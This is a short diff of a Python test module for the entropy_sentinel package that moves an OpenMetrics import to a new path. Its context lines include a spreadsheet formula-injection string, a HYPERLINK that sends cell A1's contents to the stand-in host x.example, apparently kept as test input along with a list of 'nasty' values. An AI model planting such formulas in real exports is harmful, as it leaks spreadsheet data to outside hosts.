@@ -13,7 +13,7 @@ from prometheus_client.openmetrics.parser import text_string_to_metric_families
 import entropy_sentinel as es
 from entropy_sentinel.commands.main import main
 from entropy_sentinel.frames.errors import ConfigError
-from entropy_sentinel.monitor.openmetrics import openmetrics
+from entropy_sentinel.monitor.showing.openmetrics import openmetrics
 
 FORMULA = '=HYPERLINK("http://x.example/?q="&A1,"see")'
 NASTY = [
